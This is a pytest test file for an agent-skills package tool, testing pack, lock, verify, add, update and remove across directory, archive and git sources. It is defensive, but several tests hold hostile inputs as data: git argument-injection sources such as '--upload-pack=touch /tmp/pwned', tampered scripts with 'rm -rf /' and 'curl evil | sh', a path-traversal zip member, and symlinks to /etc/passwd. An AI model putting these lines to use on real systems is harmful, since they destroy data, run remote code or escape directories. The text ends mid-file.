"""Skill packages: pack, lock, verify, add, update, remove (SPEC §25.2-§25.5)."""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import stat
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result

from agent_skills import SkillError, create_agent_skills
from agent_skills import packages as pkg
from agent_skills._archive import read_index
from agent_skills.packages import _install as pkg_install
from agent_skills.packages import _sources as pkg_sources
from conftest import ends_within, git, make_skill, needs_git, symlink


def sha(data: bytes) -> str:
    return "sha256:" + hashlib.sha256(data).hexdigest()


def skill_digest(files: list[tuple[str, bytes]]) -> str:
    lines = "".join(f"{hashlib.sha256(d).hexdigest()} {len(d)} {rel}\n" for rel, d in sorted(files))
    return sha(lines.encode())


MANIFEST = b"---\nname: hello\ndescription: Says hello.\n---\nRun scripts/hi.sh.\n"
SCRIPT = b"#!/bin/sh\necho hi\n"


def hello(root: Path, name: str = "hello", script: bytes = SCRIPT) -> Path:
    manifest = MANIFEST.replace(b"hello", name.encode(), 1)
    skill = make_skill(root, name, raw=manifest, files={"scripts/hi.sh": script})
    (skill / "scripts" / "hi.sh").chmod(0o755)
    return skill


def lock_of(path: Path) -> dict[str, Any]:
    return json.loads(path.read_text())


# ---------------------------------------------------------------------------------------------
# pack (SPEC §25.2)


def test_pack_twice_gives_identical_bytes_and_a_valid_root(tmp_path: Path) -> None:
    skill = hello(tmp_path / "src")
    (skill / ".env").write_text("SECRET=1")
    (skill / "__pycache__").mkdir()
    (skill / "__pycache__" / "x.pyc").write_bytes(b"\0")
    (skill / "node_modules" / "m").mkdir(parents=True)
    (skill / "node_modules" / "m" / "i.js").write_text("x")
    (skill / "references").mkdir()
    (skill / "references" / "b.md").write_text("B")
    (skill / "references" / "A.md").write_text("A")
    first = pkg.pack_skill(skill, tmp_path / "one.skill")
    os.utime(skill / "SKILL.md", (1_000_000, 1_000_000))  # timestamps never reach the bytes
    second = pkg.pack_skill(skill, tmp_path / "two.skill")
    assert first.read_bytes() == second.read_bytes()
    with zipfile.ZipFile(first) as zf:
        infos = zf.infolist()
        assert [i.filename for i in infos] == [
            "hello/SKILL.md",
            "hello/references/A.md",
            "hello/references/b.md",
            "hello/scripts/hi.sh",
        ]
        assert {i.date_time for i in infos} == {(1980, 1, 1, 0, 0, 0)}
        modes = {i.filename: i.external_attr >> 16 for i in infos}
        assert modes["hello/scripts/hi.sh"] == stat.S_IFREG | 0o755
        assert modes["hello/SKILL.md"] == stat.S_IFREG | 0o644
        assert zf.read("hello/scripts/hi.sh") == SCRIPT
    index = read_index(first)
    assert [(s.top, s.manifest) for s in index.skills] == [("hello", "hello/SKILL.md")]


def test_pack_default_output_is_name_dot_skill_in_cwd(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    skill = hello(tmp_path / "src")
    out = tmp_path / "out"
    out.mkdir()
    monkeypatch.chdir(out)
    assert pkg.pack_skill(skill) == out / "hello.skill"
    assert (out / "hello.skill").is_file()
    assert [p.name for p in out.iterdir()] == ["hello.skill"]  # no temporary file left


def test_pack_refuses_a_skill_with_validation_errors(tmp_path: Path) -> None:
    skill = make_skill(tmp_path, "Bad_Name", frontmatter={"name": "Bad_Name", "description": "x"})
    with pytest.raises(SkillError) as info:
        pkg.pack_skill(skill, tmp_path / "bad.skill")
    assert info.value.code == "invalid_skill"
    assert info.value.fields["path"] == str(skill)
    assert [p["code"] for p in info.value.fields["problems"]] == [
        "name_uppercase",
        "name_invalid_chars",
    ]
    assert not (tmp_path / "bad.skill").exists()


def test_pack_stores_members_that_compress_too_well(tmp_path: Path) -> None:
    skill = hello(tmp_path / "src")
    (skill / "assets").mkdir()
    (skill / "assets" / "zeros.bin").write_bytes(bytes(1_000_000))
    out = pkg.pack_skill(skill, tmp_path / "z.skill")
    with zipfile.ZipFile(out) as zf:
        info = zf.getinfo("hello/assets/zeros.bin")
        assert info.compress_type == zipfile.ZIP_STORED
        assert zf.getinfo("hello/SKILL.md").compress_type == zipfile.ZIP_DEFLATED
    assert len(read_index(out).files) == 3  # still a valid archive root (ratio <= 200)


def test_pack_leaves_out_links_leading_outside(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("secret")
    skill = hello(tmp_path / "src")
    symlink(skill / "references" / "leak.txt", secret)
    symlink(skill / "references" / "inside.sh", skill / "scripts" / "hi.sh")
    out = pkg.pack_skill(skill, tmp_path / "l.skill")
    with zipfile.ZipFile(out) as zf:
        names = zf.namelist()
        assert "hello/references/leak.txt" not in names
        assert zf.read("hello/references/inside.sh") == SCRIPT  # copied as a file, not a link
        assert all(
            i.external_attr >> 16 & stat.S_IFMT(0o170000) != stat.S_IFLNK for i in zf.infolist()
        )


def test_pack_cli(run: Callable[..., Result], env: dict[str, Path]) -> None:
    skill = hello(env["tmp"] / "src")
    result = run("pack", str(skill), "-o", str(env["tmp"] / "h.skill"))
    assert result.exit_code == 0, result.output
    assert (env["tmp"] / "h.skill").is_file()
    bad = make_skill(env["tmp"] / "src", "x", frontmatter={"name": "y", "description": "d"})
    result = run("pack", str(bad))
    assert result.exit_code == 1
    assert result.output.startswith("invalid_skill: ")


# ---------------------------------------------------------------------------------------------
# lock and verify (SPEC §25.3)


def test_lock_records_the_mcp_digests_exactly(
    run: Callable[..., Result], env: dict[str, Path]
) -> None:
    hello(env["ws"] / ".agents" / "skills")
    hello(env["home"] / ".agents" / "skills", "mine")  # a user skill: not locked without --all
    result = run("lock", "--preset", "agents")
    assert result.exit_code == 0, result.output
    assert result.output == f"locked 1 skill in {env['ws'] / 'skills.lock.json'}\n"
    files = [("SKILL.md", MANIFEST), ("scripts/hi.sh", SCRIPT)]
    assert lock_of(env["ws"] / "skills.lock.json") == {
        "version": 1,
        "skills": [
            {
                "name": "hello",
                "scope": "workspace",
                "source": "agents",
                "dir": ".agents/skills/hello",
                "digest": skill_digest(files),
                "files": [
                    {"path": "SKILL.md", "size": len(MANIFEST), "sha256": sha(MANIFEST)},
                    {"path": "scripts/hi.sh", "size": len(SCRIPT), "sha256": sha(SCRIPT)},
                ],
            }
        ],
    }
    result = run("lock", "--preset", "agents", "--all", "--output", str(env["tmp"] / "all.json"))
    assert result.exit_code == 0, result.output
    lock = lock_of(env["tmp"] / "all.json")
    assert [(e["name"], e["scope"], e["dir"]) for e in lock["skills"]] == [
        ("hello", "workspace", ".agents/skills/hello"),
        ("mine", "user", str(env["home"] / ".agents" / "skills" / "mine")),
    ]
    # --output writes only the file named
    assert lock_of(env["ws"] / "skills.lock.json")["skills"][0]["name"] == "hello"


def test_lock_digest_equals_the_served_digests(env: dict[str, Path]) -> None:
    from agent_skills._digest import FileDigest
    from agent_skills._digest import skill_digest as digest_of

    hello(env["ws"] / ".agents" / "skills")
    skills = create_agent_skills([env["ws"] / ".agents" / "skills"])
    lock = pkg.lock_skills(skills, workspace=env["ws"])
    entry = lock["skills"][0]
    served = [
        FileDigest(rel, len(data), sha(data))
        for rel in ("SKILL.md", "scripts/hi.sh")
        for data in [skills.read_resource("hello", rel)]
    ]
    assert entry["digest"] == digest_of(served)
    assert entry["dir"] == ".agents/skills/hello"


@pytest.fixture
def locked(run: Callable[..., Result], env: dict[str, Path]) -> Path:
    skill = hello(env["ws"] / ".agents" / "skills")
    (skill / "references").mkdir()
    (skill / "references" / "guide.md").write_text("Guide.")
    hello(env["ws"] / ".agents" / "skills", "other")
    assert run("lock", "--preset", "agents").exit_code == 0
    return skill


def test_verify_unchanged_exits_0(run: Callable[..., Result], locked: Path) -> None:
    result = run("verify", "--preset", "agents")
    assert result.exit_code == 0, result.output
    assert result.output.endswith("2 skills match the lock\n")


def test_verify_names_changed_added_and_removed_files(
    run: Callable[..., Result], locked: Path
) -> None:
    (locked / "scripts" / "hi.sh").write_bytes(b"#!/bin/sh\nrm -rf /\n")
    (locked / "references" / "guide.md").unlink()
    (locked / "references" / "new.md").write_text("new")
    result = run("verify", "--preset", "agents")
    assert result.exit_code == 1
    assert result.stdout.splitlines() == [
        "changed skill hello: .agents/skills/hello",
        "  removed references/guide.md",
        "  added references/new.md",
        "  changed scripts/hi.sh",
    ]
    result = run("verify", "--preset", "agents", "--json")
    assert result.exit_code == 1
    report = json.loads(result.stdout)
    assert report["ok"] is False
    assert report["drift"] == [
        {
            "name": "hello",
            "status": "changed",
            "dir": ".agents/skills/hello",
            "files": [
                {"status": "removed", "path": "references/guide.md"},
                {"status": "added", "path": "references/new.md"},
                {"status": "changed", "path": "scripts/hi.sh"},
            ],
            "moved_from": None,
        }
    ]


def test_verify_same_size_change_is_caught(run: Callable[..., Result], locked: Path) -> None:
    script = locked / "scripts" / "hi.sh"
    script.write_bytes(SCRIPT.replace(b"hi", b"ho"))
    result = run("verify", "--preset", "agents")
    assert result.exit_code == 1
    assert "  changed scripts/hi.sh" in result.stdout.splitlines()


def test_verify_hidden_file_change_does_not_count(run: Callable[..., Result], locked: Path) -> None:
    (locked / ".env").write_text("TOKEN=x")
    (locked / "node_modules").mkdir()
    (locked / "node_modules" / "x.js").write_text("x")
    result = run("verify", "--preset", "agents")
    assert result.exit_code == 0, result.output


def test_verify_added_and_removed_skills(
    run: Callable[..., Result], env: dict[str, Path], locked: Path
) -> None:
    shutil.rmtree(env["ws"] / ".agents" / "skills" / "other")
    hello(env["ws"] / ".agents" / "skills", "third")
    result = run("verify", "--preset", "agents")
    assert result.exit_code == 1
    assert result.stdout.splitlines() == [
        "removed skill other: .agents/skills/other",
        "added skill third: .agents/skills/third",
    ]


def test_verify_a_user_skill_never_counts_for_a_project_lock(
    run: Callable[..., Result], env: dict[str, Path], locked: Path
) -> None:
    hello(env["home"] / ".agents" / "skills", "hello", script=b"other")  # same name, user scope
    result = run("verify", "--preset", "agents")
    assert result.exit_code == 0, result.output


def test_verify_a_missing_or_broken_lock(run: Callable[..., Result], env: dict[str, Path]) -> None:
    # No lock yet is a usage problem (exit 2) that says how to make one, not drift.
    result = run("verify", "--preset", "agents")
    lock = env["ws"] / "skills.lock.json"
    assert result.exit_code == 2
    assert result.output == (
        f"usage_error: no lock file at {lock}: write one with `agent-skills lock` first\n"
    )
    as_json = run("verify", "--preset", "agents", "--json")
    assert as_json.exit_code == 2
    assert json.loads(as_json.output)["error"]["code"] == "usage_error"
    (env["ws"] / "skills.lock.json").write_text('{"version": 2, "skills": []}')
    result = run("verify", "--preset", "agents")
    assert result.exit_code == 1
    assert result.output.startswith("invalid_input: ")


def test_verify_lock_is_pure_and_reports_moves() -> None:
    entry = {
        "name": "a",
        "dir": "x/a",
        "digest": "d1",
        "files": [{"path": "SKILL.md", "size": 1, "sha256": "s1"}],
    }
    moved = {**entry, "dir": "y/a"}
    assert pkg.verify_lock({"skills": [entry]}, {"skills": [entry]}) == []
    assert pkg.verify_lock({"skills": [entry]}, {"skills": [moved]}) == [
        pkg.SkillDrift("a", "changed", "y/a", (), "x/a")
    ]


# ---------------------------------------------------------------------------------------------
# parse_source (SPEC §25.5)


def test_parse_source_kinds(tmp_path: Path) -> None:
    hello(tmp_path / "dir")
    (tmp_path / "a.skill").write_bytes(b"")
    assert pkg.parse_source("dir", cwd=tmp_path) == pkg.Source("directory", str(tmp_path / "dir"))
    assert pkg.parse_source(str(tmp_path / "a.skill")) == pkg.Source(
        "archive", str(tmp_path / "a.skill")
    )
    assert pkg.parse_source("https://example.com/a/b.git//skills/x#v1.2") == pkg.Source(
        "git", "https://example.com/a/b.git", "skills/x", "v1.2"
    )
    assert pkg.parse_source("https://example.com/a/b") == pkg.Source(
        "git", "https://example.com/a/b", None, None
    )
    assert pkg.parse_source("git@example.com:a/b.git//s#main") == pkg.Source(
        "git", "git@example.com:a/b.git", "s", "main"
    )
    assert pkg.parse_source("file:///srv/repo#abc") == pkg.Source(
        "git", "file:///srv/repo", None, "abc"
    )
    assert pkg.parse_source("file:///srv/repo//a//b") == pkg.Source(
        "git", "file:///srv/repo//a", "b"
    )
    assert pkg.parse_source("dir#v1", cwd=tmp_path) == pkg.Source(
        "git", str(tmp_path / "dir"), None, "v1"
    )


@pytest.mark.parametrize(
    "text",
    [
        "-uupload-pack=touch /tmp/x",
        "https://example.com/r#-x",
        "https://example.com/r#",
        "https://example.com/r//",
        "nothing-here",
        "#ref",
    ],
)
def test_parse_source_refuses(text: str, tmp_path: Path) -> None:
    with pytest.raises(SkillError) as info:
        pkg.parse_source(text, cwd=tmp_path)
    assert info.value.code == "invalid_input"
    assert info.value.fields["source"] == text


def test_parse_source_refuses_a_plain_file(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("x")
    with pytest.raises(SkillError) as info:
        pkg.parse_source("notes.txt", cwd=tmp_path)
    assert info.value.code == "invalid_input"


def test_add_refuses_a_dash_source(run: Callable[..., Result]) -> None:
    result = run("add", "--", "--upload-pack=touch /tmp/pwned")
    assert result.exit_code == 1
    assert result.output.startswith("invalid_input: ")


# ---------------------------------------------------------------------------------------------
# add / update / remove (SPEC §25.4)


def test_add_from_a_directory(run: Callable[..., Result], env: dict[str, Path]) -> None:
    src = env["tmp"] / "vendor"
    hello(src / "skills")
    hello(src / "skills", "second")
    (src / "skills" / "hello" / ".env").write_text("SECRET")
    result = run("add", str(src), "--preset", "agents")
    assert result.exit_code == 0, result.output
    root = env["ws"] / ".agents" / "skills"
    assert sorted(p.name for p in root.iterdir()) == ["hello", "second"]
    script = root / "hello" / "scripts" / "hi.sh"
    assert script.read_bytes() == SCRIPT
    assert stat.S_IMODE(script.stat().st_mode) == 0o755
    assert stat.S_IMODE((root / "hello" / "SKILL.md").stat().st_mode) == 0o644
    assert not (root / "hello" / ".env").exists()  # only what is listed is installed
    lock = lock_of(env["ws"] / "skills.lock.json")
    assert [e["name"] for e in lock["skills"]] == ["hello", "second"]
    assert lock["skills"][0]["origin"] == {"source": str(src), "ref": None, "commit": None}
    assert run("verify", "--preset", "agents").exit_code == 0


def test_add_selected_skills_and_unknown_names(
    run: Callable[..., Result], env: dict[str, Path]
) -> None:
    src = env["tmp"] / "vendor"
    hello(src)
    hello(src, "second")
    hello(src, "third")
    result = run("add", str(src), "--skill", "second", "--skill", "third")
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in (env["ws"] / ".agents" / "skills").iterdir()) == [
        "second",
        "third",
    ]
    result = run("add", str(src), "--skill", "nope")
    assert result.exit_code == 1
    assert result.output.startswith("not_found: no skill named nope")


def test_add_an_installed_name_needs_force_and_changes_nothing(
    run: Callable[..., Result], env: dict[str, Path]
) -> None:
    src = env["tmp"] / "vendor"
    hello(src, script=b"v1")
    assert run("add", str(src / "hello")).exit_code == 0
    lock_before = (env["ws"] / "skills.lock.json").read_bytes()
    (src / "hello" / "scripts" / "hi.sh").write_bytes(b"v2")
    result = run("add", str(src / "hello"))
    assert result.exit_code == 1
    assert "hello" in result.output and "--force" in result.output
    installed = env["ws"] / ".agents" / "skills" / "hello"
    assert (installed / "scripts" / "hi.sh").read_bytes() == b"v1"
    assert (env["ws"] / "skills.lock.json").read_bytes() == lock_before
    result = run("add", str(src / "hello"), "--force")
    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[0] == f"replaced hello in {installed}"
    assert (installed / "scripts" / "hi.sh").read_bytes() == b"v2"
    assert [p.name for p in installed.parent.iterdir()] == ["hello"]  # no sibling left


def test_add_to_user_and_client_roots(run: Callable[..., Result], env: dict[str, Path]) -> None:
    src = env["tmp"] / "vendor"
    hello(src)
    assert run("add", str(src), "--to", "user").exit_code == 0
    assert (env["home"] / ".agents" / "skills" / "hello" / "SKILL.md").is_file()
    assert lock_of(env["home"] / ".agents" / "skills.lock.json")["skills"][0]["scope"] == "user"
    assert run("add", str(src), "--to", "user", "--client", "claude").exit_code == 0
    assert (env["home"] / ".claude" / "skills" / "hello" / "SKILL.md").is_file()
    assert run("add", str(src), "--client", "claude").exit_code == 0
    assert (env["ws"] / ".claude" / "skills" / "hello" / "SKILL.md").is_file()
    # SPEC §25.5: read literally, gemini's highest user root is ~/.agents/skills
    result = run("add", str(src), "--to", "user", "--client", "gemini")
    assert result.exit_code == 1 and "--force" in result.output
    assert not (env["home"] / ".gemini").exists()


def test_remove(run: Callable[..., Result], env: dict[str, Path]) -> None:
    src = env["tmp"] / "vendor"
    hello(src)
    hello(src, "second")
    assert run("add", str(src)).exit_code == 0
    result = run("remove", "hello")
    assert result.exit_code == 0, result.output
    root = env["ws"] / ".agents" / "skills"
    assert [p.name for p in root.iterdir()] == ["second"]
    assert [e["name"] for e in lock_of(env["ws"] / "skills.lock.json")["skills"]] == ["second"]
    result = run("remove", "hello")
    assert result.exit_code == 1
    assert result.output.startswith("not_found: ")
    result = run("remove", "..")
    assert result.exit_code == 1
    assert result.output.startswith("invalid_input: ")


def test_interrupted_copy_leaves_the_old_copy_whole(
    run: Callable[..., Result], env: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    src = env["tmp"] / "vendor"
    skill = hello(src, script=b"old")
    (skill / "references").mkdir()
    (skill / "references" / "r.md").write_text("old ref")
    assert run("add", str(skill)).exit_code == 0
    installed = env["ws"] / ".agents" / "skills" / "hello"
    before = {p.relative_to(installed): p.read_bytes() for p in installed.rglob("*") if p.is_file()}
    (skill / "scripts" / "hi.sh").write_bytes(b"new")
    real_copy = pkg_install._copy_file
    calls = {"n": 0}

    def failing(source: Any, dest: Path, *rest: Any) -> None:
        calls["n"] += 1
        if calls["n"] == 2:
            raise OSError(28, "No space left on device")
        real_copy(source, dest, *rest)

    monkeypatch.setattr(pkg_install, "_copy_file", failing)
    result = run("add", str(skill), "--force")
    assert result.exit_code == 1
    assert result.output.startswith("io_error: ")
    after = {p.relative_to(installed): p.read_bytes() for p in installed.rglob("*") if p.is_file()}
    assert after == before
    assert [p.name for p in installed.parent.iterdir()] == ["hello"]


def test_an_install_stopped_between_renames_is_finished_by_the_next(
    run: Callable[..., Result], env: dict[str, Path]
) -> None:
    src = env["tmp"] / "vendor"
    hello(src)
    hello(src, "second")
    root = env["ws"] / ".agents" / "skills"
    assert run("add", str(src), "--skill", "hello").exit_code == 0
    # The old copy was renamed away, the new one never renamed in: the old one comes back.
    os.rename(root / "hello", root / ".agent-skills-old-0123abcd-hello")
    (root / ".agent-skills-tmp-zzz").mkdir()
    (root / ".agent-skills-tmp-zzz" / "junk").write_text("x")
    assert run("add", str(src), "--skill", "second").exit_code == 0
    assert sorted(p.name for p in root.iterdir()) == ["hello", "second"]
    assert (root / "hello" / "scripts" / "hi.sh").read_bytes() == SCRIPT


def test_install_refuses_a_skill_that_does_not_validate(
    run: Callable[..., Result], env: dict[str, Path]
) -> None:
    src = env["tmp"] / "vendor"
    make_skill(src, "bad", frontmatter={"name": "bad", "description": "d", "compatibility": ""})
    result = run("add", str(src / "bad"))
    assert result.exit_code == 1
    assert result.output.startswith("invalid_skill: ")
    assert list((env["ws"] / ".agents" / "skills").iterdir()) == []


def test_a_malicious_directory_never_writes_outside(
    run: Callable[..., Result], env: dict[str, Path]
) -> None:
    outside = env["tmp"] / "outside"
    outside.mkdir()
    (outside / "secret").write_text("secret")
    src = env["tmp"] / "vendor"
    skill = hello(src)
    symlink(skill / "references" / "leak", outside / "secret")
    symlink(skill / "assets", outside)
    symlink(skill / "scripts" / "dangling", env["tmp"] / "nowhere")
    result = run("add", str(skill))
    assert result.exit_code == 0, result.output
    installed = env["ws"] / ".agents" / "skills" / "hello"
    files = sorted(p.relative_to(installed).as_posix() for p in installed.rglob("*"))
    assert files == ["SKILL.md", "scripts", "scripts/hi.sh"]
    assert not any(p.is_symlink() for p in installed.rglob("*"))
    assert sorted(p.name for p in outside.iterdir()) == ["secret"]
    assert (
        "warning: escaping_symlink: skipping resource symlink escaping skill dir "
        f"{skill / 'references' / 'leak'}" in result.stderr.splitlines()
    )


# ---------------------------------------------------------------------------------------------
# archives as sources


def _zip(path: Path, members: list[tuple[str, bytes, int]]) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        for name, data, mode in members:
            info = zipfile.ZipInfo(name)
            info.create_system = 3
            info.external_attr = mode << 16
            zf.writestr(info, data)
    return path


def test_add_from_an_archive_keeps_executable_bits(
    run: Callable[..., Result], env: dict[str, Path]
) -> None:
    archive = _zip(
        env["tmp"] / "hello.zip",
        [
            ("hello/SKILL.md", MANIFEST, stat.S_IFREG | 0o644),
            ("hello/scripts/hi.sh", SCRIPT, stat.S_IFREG | 0o755),
            ("hello/scripts/link", b"/etc/passwd", stat.S_IFLNK | 0o777),
        ],
    )
    result = run("add", str(archive))
    assert result.exit_code == 0, result.output
    installed = env["ws"] / ".agents" / "skills" / "hello"
    assert stat.S_IMODE((installed / "scripts" / "hi.sh").stat().st_mode) == 0o755
    assert sorted(p.name for p in (installed / "scripts").iterdir()) == ["hi.sh"]
    assert "not serving link member 'hello/scripts/link'" in result.stderr
    lock = lock_of(env["ws"] / "skills.lock.json")
    assert lock["skills"][0]["origin"] == {"source": str(archive), "ref": None, "commit": None}


def test_add_from_a_tgz_with_a_root_manifest(
    run: Callable[..., Result], env: dict[str, Path]
) -> None:
    path = env["tmp"] / "hello.tgz"
    with tarfile.open(path, "w:gz") as tf:
        for name, data, mode in [("SKILL.md", MANIFEST, 0o644), ("scripts/hi.sh", SCRIPT, 0o755)]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mode = mode
            tf.addfile(info, io.BytesIO(data))
    result = run("add", str(path))
    assert result.exit_code == 0, result.output
    script = env["ws"] / ".agents" / "skills" / "hello" / "scripts" / "hi.sh"
    assert script.read_bytes() == SCRIPT
    assert stat.S_IMODE(script.stat().st_mode) == 0o755


def test_a_hostile_archive_never_writes_outside(
    run: Callable[..., Result], env: dict[str, Path]
) -> None:
    archive = _zip(
        env["tmp"] / "evil.zip",
        [
            ("hello/SKILL.md", MANIFEST, stat.S_IFREG | 0o644),
            ("hello/../../../escaped.txt", b"pwned", stat.S_IFREG | 0o644),
        ],
    )
    before = sorted(p.name for p in env["tmp"].iterdir())
    result = run("add", str(archive))
    assert result.exit_code == 1
    assert result.output.startswith("invalid_archive: ")
    assert sorted(p.name for p in env["tmp"].iterdir()) == before
    assert not (env["ws"] / ".agents" / "skills" / "hello").exists()


# ---------------------------------------------------------------------------------------------
# git sources


@pytest.fixture
def repo(env: dict[str, Path]) -> dict[str, Any]:
    """A repository with skills under skills/: v1 tagged, then v2 on the default branch."""
    path = env["tmp"] / "repo"
    path.mkdir()
    git("init", "-q", "-b", "main", cwd=path)
    hello(path / "skills", script=b"v1")
    (path / "README.md").write_text("not a skill")
    git("add", "-A", cwd=path)
    git("commit", "-qm", "v1", cwd=path)
    git("tag", "v1", cwd=path)
    v1 = git("rev-parse", "HEAD", cwd=path)
    (path / "skills" / "hello" / "scripts" / "hi.sh").write_bytes(b"v2")
    git("commit", "-qam", "v2", cwd=path)
    v2 = git("rev-parse", "HEAD", cwd=path)
    return {"path": path, "url": f"file://{path}", "v1": v1, "v2": v2}


@needs_git
def test_add_from_git_at_a_tag_with_a_subdirectory(
    run: Callable[..., Result], env: dict[str, Path], repo: dict[str, Any]
) -> None:
    result = run("add", f"{repo['url']}//skills#v1")
    assert result.exit_code == 0, result.output
    installed = env["ws"] / ".agents" / "skills" / "hello"
    assert (installed / "scripts" / "hi.sh").read_bytes() == b"v1"
    assert stat.S_IMODE((installed / "scripts" / "hi.sh").stat().st_mode) == 0o755
    entry = lock_of(env["ws"] / "skills.lock.json")["skills"][0]
    assert entry["origin"] == {
        "source": f"{repo['url']}//skills",
        "ref": "v1",
        "commit": repo["v1"],
    }
    # update re-installs from the recorded origin: still the tag, so nothing changed
    result = run("update")
    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[0] == f"unchanged hello in {installed}"
    assert (installed / "scripts" / "hi.sh").read_bytes() == b"v1"


@needs_git
def test_add_from_git_default_branch_then_update_follows_it(
    run: Callable[..., Result], env: dict[str, Path], repo: dict[str, Any]
) -> None:
    assert run("add", f"{repo['url']}//skills").exit_code == 0
    installed = env["ws"] / ".agents" / "skills" / "hello"
    assert (installed / "scripts" / "hi.sh").read_bytes() == b"v2"
    (repo["path"] / "skills" / "hello" / "scripts" / "hi.sh").write_bytes(b"v3")
    git("commit", "-qam", "v3", cwd=repo["path"])
    v3 = git("rev-parse", "HEAD", cwd=repo["path"])
    assert run("verify").exit_code == 0
    result = run("update", "hello")
    assert result.exit_code == 0, result.output
    assert (installed / "scripts" / "hi.sh").read_bytes() == b"v3"
    assert lock_of(env["ws"] / "skills.lock.json")["skills"][0]["origin"]["commit"] == v3
    assert run("verify").exit_code == 0


@needs_git
def test_add_from_git_at_a_commit(
    run: Callable[..., Result], env: dict[str, Path], repo: dict[str, Any]
) -> None:
    result = run("add", f"{repo['url']}//skills/hello#{repo['v1']}")
    assert result.exit_code == 0, result.output
    installed = env["ws"] / ".agents" / "skills" / "hello"
    assert (installed / "scripts" / "hi.sh").read_bytes() == b"v1"
    origin = lock_of(env["ws"] / "skills.lock.json")["skills"][0]["origin"]
    assert origin == {
        "source": f"{repo['url']}//skills/hello",
        "ref": repo["v1"],
        "commit": repo["v1"],
    }


@needs_git
def test_git_errors_are_coded(
    run: Callable[..., Result], env: dict[str, Path], repo: dict[str, Any]
) -> None:
    result = run("add", f"{repo['url']}#no-such-ref")
    assert result.exit_code == 1
    assert result.output.startswith("not_found: unknown ref 'no-such-ref' in ")
    result = run("add", f"{repo['url']}//../..")
    assert result.exit_code == 1
    assert result.output.startswith("path_escape: ")
    result = run("add", f"{repo['url']}//missing")
    assert result.exit_code == 1
    assert result.output.startswith("not_found: ")


@needs_git
def test_a_malicious_git_repository_never_writes_outside(
    run: Callable[..., Result], env: dict[str, Path]
) -> None:
    outside = env["tmp"] / "outside"
    outside.mkdir()
    (outside / "secret").write_text("secret")
    path = env["tmp"] / "evil"
    path.mkdir()
    git("init", "-q", "-b", "main", cwd=path)
    skill = hello(path)
    os.symlink(str(outside / "secret"), skill / "references-leak")
    os.symlink("../../outside", skill / "up")
    os.symlink("/", skill / "root")
    git("add", "-A", cwd=path)
    git("commit", "-qm", "evil", cwd=path)
    result = run("add", f"file://{path}")
    assert result.exit_code == 0, result.output
    installed = env["ws"] / ".agents" / "skills" / "hello"
    files = sorted(p.relative_to(installed).as_posix() for p in installed.rglob("*"))
    assert files == ["SKILL.md", "scripts", "scripts/hi.sh"]
    assert sorted(p.name for p in outside.iterdir()) == ["secret"]


@needs_git
def test_done_when_add_from_git_commit_lock_then_ci_verify_names_the_edit(
    env: dict[str, Path], repo: dict[str, Any]
) -> None:
    """The whole story with the default preset, as a user runs it in a real process."""
    command = [sys.executable, "-m", "agent_skills"]
    shutil.rmtree(env["ws"] / ".git")
    git("init", "-q", cwd=env["ws"])
    run_env = {**os.environ, "HOME": str(env["home"])}

    def agent_skills(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [*command, *args], cwd=env["ws"], env=run_env, capture_output=True, text=True
        )

    added = agent_skills("add", f"{repo['url']}//skills#v1")
    assert added.returncode == 0, added.stderr
    git("add", "-A", cwd=env["ws"])
    git("commit", "-qm", "skills", cwd=env["ws"])
    assert agent_skills("verify").returncode == 0
    script = env["ws"] / ".agents" / "skills" / "hello" / "scripts" / "hi.sh"
    script.write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    checked = agent_skills("verify")
    assert checked.returncode == 1
    assert checked.stdout.splitlines() == [
        "changed skill hello: .agents/skills/hello",
        "  changed scripts/hi.sh",
    ]


def test_concurrent_installs_into_one_root_both_land(tmp_path: Path) -> None:
    import threading

    src = tmp_path / "vendor"
    names = [f"s{i}" for i in range(6)]
    for name in names:
        hello(src, name)
    root = tmp_path / "root"
    errors: list[BaseException] = []

    def install(name: str) -> None:
        try:
            pkg.install_skills(pkg.Source("directory", str(src)), root, names=[name])
        except BaseException as exc:  # pragma: no cover - reported below
            errors.append(exc)

    threads = [threading.Thread(target=install, args=(n,)) for n in names]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=60)
    assert errors == []
    assert sorted(p.name for p in root.iterdir()) == names
    for name in names:
        assert (root / name / "scripts" / "hi.sh").read_bytes() == SCRIPT


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("{", "invalid JSON"),
        ('{"version": 1}', "'skills' is not a list"),
        ('[{"version": 1}]', "expected an object with version 1"),
        ('{"version": 1, "skills": [{"files": []}]}', "a skill entry has no name"),
        (
            '{"version": 1, "skills": [{"name": "a", "files": [{"path": "x"}]}]}',
            "skill 'a' has malformed files",
        ),
        (
            '{"version": 1, "skills": [{"name": "a", "files": [], "origin": "x"}]}',
            "skill 'a' has a malformed origin",
        ),
    ],
)
def test_read_lock_refuses_malformed_locks(tmp_path: Path, text: str, reason: str) -> None:
    path = tmp_path / "skills.lock.json"
    path.write_text(text)
    with pytest.raises(SkillError) as info:
        pkg.read_lock(path)
    assert info.value.code == "invalid_input"
    assert info.value.fields["path"] == str(path)
    assert str(info.value.fields["reason"]).startswith(reason)


def test_write_lock_is_atomic_and_ends_with_a_newline(tmp_path: Path) -> None:
    target = tmp_path / "sub" / "skills.lock.json"
    pkg.write_lock(target, {"version": 1, "skills": []})
    assert target.read_text() == '{\n  "version": 1,\n  "skills": []\n}\n'
    assert sorted(p.name for p in target.parent.iterdir()) == ["skills.lock.json"]
    assert pkg.read_lock(target) == {"version": 1, "skills": []}


def test_git_missing_from_path_is_a_coded_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pkg_sources.shutil, "which", lambda name: None)
    with pytest.raises(SkillError) as info:
        pkg.install_skills(pkg.Source("git", "https://example.com/r.git"), tmp_path / "root")
    assert (info.value.code, info.value.message) == ("io_error", "git is not on PATH")


def test_a_source_with_only_broken_skills_names_the_problems(tmp_path: Path) -> None:
